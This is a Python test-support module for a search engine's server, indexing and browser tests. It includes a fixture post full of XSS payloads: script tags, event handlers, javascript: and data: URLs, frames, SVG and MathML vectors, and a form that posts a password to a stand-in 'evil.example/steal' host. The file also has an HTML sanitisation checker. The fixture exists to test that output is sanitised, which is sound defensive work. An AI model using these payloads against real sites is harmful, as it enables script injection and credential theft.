"""Test tooling shared by the tests and the scripts: real servers, Chromium, real posts.

Nothing here is part of the product. The scripts (screenshot, load test)
import it with ``tests/`` on their path; the tests import it by name (pytest
puts ``tests/`` on the path).
"""

from __future__ import annotations

import os
import pty
import re
import select
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import IO

from selectolax.lexbor import LexborHTMLParser, LexborNode

import searchengine
from searchengine.indexer import BuildOptions, build_index

__all__ = [
    "SEARCHENGINE",
    "run_in_terminal",
    "without_colours",
    "wait_until",
    "children",
    "Hammer",
    "CHROMIUM",
    "CHROMIUM_ARGS",
    "Running",
    "running",
    "free_port",
    "SAMPLES",
    "SEED",
    "SEED_TITLE",
    "SCRIPT_POST",
    "HOSTILE_POST",
    "HOSTILE_WORD",
    "HOSTILE_POSTS",
    "FORGIVING_POSTS",
    "SAMPLE_COUNT",
    "write_posts",
    "build",
    "assert_safe_html",
]

# --- processes ------------------------------------------------------------------

#: The installed ``searchengine`` command (the one users run; it never imports
#: a checkout's source tree, whatever the current folder).
SEARCHENGINE = [str(Path(sys.executable).with_name("searchengine"))]


def run_in_terminal(command: list[str], timeout: float = 120.0) -> tuple[int, str]:
    """Run ``command`` on a terminal of its own (a pseudo-terminal), as from a user's shell.

    The command's standard input, output and error are the terminal, so it
    sees a terminal (colours on) and both outputs interleave as a user sees
    them. Returns its exit status and everything it wrote (with the
    terminal's CRLF line ends made LF); fails after ``timeout`` seconds.
    """
    main, other = pty.openpty()
    try:
        process = subprocess.Popen(
            command, stdin=other, stdout=other, stderr=other, env={**os.environ, "TERM": "xterm-256color"}
        )
    finally:
        os.close(other)
    chunks: list[bytes] = []
    deadline = time.monotonic() + timeout
    try:
        while True:
            remaining = deadline - time.monotonic()
            assert remaining > 0, f"{command} still running after {timeout:.0f} s"
            if not select.select([main], [], [], remaining)[0]:
                continue
            try:
                data = os.read(main, 65536)
            except OSError:  # EIO: the command has closed its end of the terminal
                break
            if not data:
                break
            chunks.append(data)
        status = process.wait(timeout=max(deadline - time.monotonic(), 1))
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(main)
    return status, b"".join(chunks).decode("utf-8", "replace").replace("\r\n", "\n")


_COLOUR = re.compile(r"\x1b\[[0-9;]*m")


def without_colours(text: str) -> str:
    """``text`` without its terminal colour codes."""
    return _COLOUR.sub("", text)


def in_fresh_process(code: str, *args: str | Path) -> list[str]:
    """Run Python ``code`` with ``args`` in a new interpreter, as a CLI command starts; its output's lines.

    For what a process loads (or leaves unloaded) from its start, which this
    test process, having loaded everything, cannot show.
    """
    run = subprocess.run(
        [sys.executable, "-c", code, *map(str, args)], capture_output=True, text=True, timeout=120
    )
    assert run.returncode == 0, run.stderr[-2000:]
    return run.stdout.splitlines()


def wait_until(condition: Callable[[], bool], timeout: float = 60.0, what: str = "the condition") -> None:
    """Poll ``condition`` until it holds; fail after ``timeout`` seconds."""
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.01)


def children(pid: int) -> set[int]:
    """The process ids whose parent is ``pid``."""
    found = set()
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and (proc / "stat").read_text().rsplit(")", 1)[1].split()[1] == str(pid):
                found.add(int(proc.name))
        except (OSError, IndexError):
            continue
    return found


class Hammer:
    """Calls ``action`` over and over in a thread while a block runs; collects what it raised.

    For the promise that something keeps working while something else happens
    (searches during a build, stats during commits)::

        with Hammer(lambda: engine.stats()) as hammer:
            build_index(...)
        assert hammer.failures == []
    """

    def __init__(self, action: Callable[[], object]) -> None:
        self.action = action
        self.failures: list[BaseException] = []
        self.calls = 0
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._run)

    def _run(self) -> None:
        while not self._done.is_set():
            try:
                self.action()
                self.calls += 1
            except BaseException as exc:  # noqa: BLE001 - collected for the test's assertion
                self.failures.append(exc)
                return

    def __enter__(self) -> Hammer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._done.set()
        self._thread.join()


# --- the server and the browser ----------------------------------------------

#: Debian's Chromium, which the browser tests and the screenshot script drive
#: through Playwright (a test tool's own browser download does not work here).
CHROMIUM = Path("/usr/bin/chromium")
#: Headless, and quiet: without the background-networking flags Chromium keeps
#: trying to reach Google's hosts, which a closed network refuses.
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


@dataclass(frozen=True)
class Running:
    """A server started by :func:`running`: its base URL and process id."""

    url: str
    pid: int


def free_port(host: str = "127.0.0.1") -> int:
    """A TCP port that was free a moment ago."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind((host, 0))
        return int(sock.getsockname()[1])


@contextmanager
def running(
    index_dir: Path | str,
    *,
    host: str = "127.0.0.1",
    port: int | None = None,
    threads: int | None = None,
    timeout: float = 60.0,
    log: Path | None = None,
) -> Iterator[Running]:
    """Run ``searchengine serve`` over ``index_dir`` in a child process; yield its URL and pid.

    Waits until the server accepts connections; raises RuntimeError with the
    server's own output if it exits first or does not start within
    ``timeout`` seconds. The server's output goes to ``log`` if given. The
    server is stopped when the block ends.
    """
    port = port or free_port(host)
    command = [
        *SEARCHENGINE,
        "serve",
        "--index",
        str(Path(index_dir).resolve()),
        "--host",
        host,
        "--port",
        str(port),
    ]
    if threads:
        command += ["--threads", str(threads)]
    with open(log, "w+b") if log else tempfile.TemporaryFile() as output:
        process = subprocess.Popen(command, stdout=output, stderr=subprocess.STDOUT, env=os.environ.copy())
        try:
            _wait_until_listening(process, host, port, timeout, output)
            yield Running(f"http://{host}:{port}", process.pid)
        finally:
            process.terminate()
            try:
                process.wait(timeout=10)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()


def _wait_until_listening(
    process: subprocess.Popen[bytes], host: str, port: int, timeout: float, output: IO[bytes]
) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise RuntimeError(f"searchengine serve exited with status {process.returncode}: {_read(output)}")
        try:
            with socket.create_connection((host, port), timeout=0.5):
                return
        except OSError:
            time.sleep(0.1)
    raise RuntimeError(f"searchengine serve did not listen on {host}:{port} within {timeout:.0f} s: {_read(output)}")


def _read(output: IO[bytes]) -> str:
    output.seek(0)
    return output.read().decode("utf-8", "replace").strip()


# --- real posts and indexes ------------------------------------------------------

SAMPLES = Path(searchengine.__file__).parent / "sample_posts"
SEED = "guancha/2021/000_30739a5f1b776113.txt"
SEED_TITLE = "中俄塔利班都参加了阿富汗问题磋商，美国仍缺席"
SCRIPT_POST = "tech/2017/2017-05-03-smart-city-expo.txt"
HOSTILE_POST = "hostile/2024/2024-01-01-evil.md"
HOSTILE_WORD = "海狸鼠测试词"
SAMPLE_COUNT = sum(1 for p in SAMPLES.rglob("*") if p.is_file() and p.suffix in (".md", ".markdown", ".txt"))

# A post that tries everything: script in the title and author, handlers,
# javascript:/data:/relative URLs, frames, objects, forms, SVG and MathML.
HOSTILE_POSTS = {
    HOSTILE_POST: """---
title: '<script>alert("title")</script>恶意标题 "><img src=x onerror=alert(1)>'
author: '"><img src=x onerror=alert(2)>'
categories:
 - '<b>分类</b>'
tags:
 - 'x" onmouseover="alert(3)'
date: 2024-01-01 08:00:00
---
<div>
<p onclick="alert(4)" style="color:red" class="x" id="y">恶意正文 海狸鼠测试词 第一段</p>
<script>alert('xss')</script>
<script src="https://evil.example/x.js"></script>
<img src=x onerror=alert(5)>
<img src="https://example.com/ok.png" onload="alert(6)" alt="好图片" width="100">
<img src="javascript:alert(7)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOCk+">
<a href="javascript:alert(9)">坏链接</a>
<a href="JaVaScRiPt:alert(10)">坏链接二</a>
<a href="https://example.com/page" target="_blank" rel="opener">好链接</a>
<a href="/relative/path">相对链接</a>
<a href="data:text/html,&lt;script&gt;alert(11)&lt;/script&gt;">数据链接</a>
<iframe src="https://evil.example/" srcdoc="<script>alert(12)</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal" method="post"><input name="pw" value="秘密"><button>提交</button></form>
<svg onload="alert(13)"><circle r="1"/></svg>
<math><mi xlink:href="javascript:alert(14)">x</mi></math>
<style>body { display: none }</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<p>文字里的 &lt;script&gt;alert(15)&lt;/script&gt; 只是文字，海狸鼠测试词 第二段</p>
<details open ontoggle="alert(16)"><summary>细节</summary>内容</details>
</div>
""",
}


# Posts that give forgiving search more to do than the samples do: a name
# written the mainland's way (特朗普), to be found by its Taiwan form (川普),
# and a word in one post (经纪) that sounds like one in dozens (经济), to be
# offered as "did you mean".
FORGIVING_POSTS = {
    "forgiving/2024/2024-06-01-tariffs.md": """---
title: 特朗普再谈关税
date: 2024-06-01 09:00:00
categories: 国际
---

特朗普周五表示，将对进口商品加征关税。
""",
    "forgiving/2024/2024-06-02-brokers.md": """---
title: 房产经纪行业新规
date: 2024-06-02 09:00:00
categories: 经济
---

多地出台规定，规范房产经纪机构的收费。
""",
}


def write_posts(root: Path, posts: dict[str, str]) -> Path:
    for relative, text in posts.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return root


def build(posts: Path, index: Path) -> Path:
    report = build_index(posts, index, BuildOptions(workers=1))
    assert report.status == "ok", report.to_dict()
    return index


# --- what no page may contain ----------------------------------------------

OUR_SCRIPT = "/static/search.js"
_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href")


_CHART_TAGS = {"svg", "line", "a", "title", "rect", "text"}


def first(tree: LexborHTMLParser | LexborNode, selector: str) -> LexborNode:
    """The first node matching ``selector``, which must be there."""
    node = tree.css_first(selector)
    assert node is not None, f"nothing matches {selector!r}"
    return node


def assert_safe_html(html: str) -> None:
    """Fail if a page could run script or load style not from us.

    Allowed: our one external script, our stylesheet, our search forms,
    our timeline chart (an SVG of shapes and links). Never: inline script or
    style, event-handler attributes, style attributes, frames, objects,
    embeds, other SVG, other forms, base or meta refresh,
    javascript:/data:/vbscript: URLs.
    """
    tree = LexborHTMLParser(html)
    for node in tree.css("*"):
        tag = node.tag
        attributes = node.attributes
        for name, value in attributes.items():
            assert not name.lower().startswith("on"), f"event handler {name}={value!r} on <{tag}>"
            assert name.lower() != "style", f"style attribute on <{tag}>"
            if name.lower() in _URL_ATTRIBUTES and value:
                scheme = value.strip().lower().replace("\t", "").replace("\n", "")
                assert not scheme.startswith(("javascript:", "data:", "vbscript:")), f"{name}={value!r} on <{tag}>"
        if tag == "script":
            assert attributes.get("src") == OUR_SCRIPT and not (node.text() or "").strip(), node.html
        assert tag not in ("style", "iframe", "frame", "object", "embed", "applet", "base", "math"), node.html
        if tag == "svg":  # only our timeline chart, made of shapes, text and links
            assert attributes.get("class") == "timeline-chart", node.html
            assert {child.tag for child in node.css("*")} <= _CHART_TAGS, node.html
        if tag == "form":
            assert attributes.get("action") == "/" and attributes.get("role") == "search", node.html
        if tag in ("input", "button"):
            assert node.parent is not None
            assert _in_search_form(node), node.html
        if tag == "meta":
            assert (attributes.get("http-equiv") or "").lower() != "refresh", node.html
        if tag == "link":
            assert (attributes.get("href") or "").startswith("/"), node.html


def _in_search_form(node: object) -> bool:
    parent = getattr(node, "parent", None)
    while parent is not None:
        if parent.tag == "form":
            return parent.attributes.get("role") == "search"
        parent = parent.parent
    return False
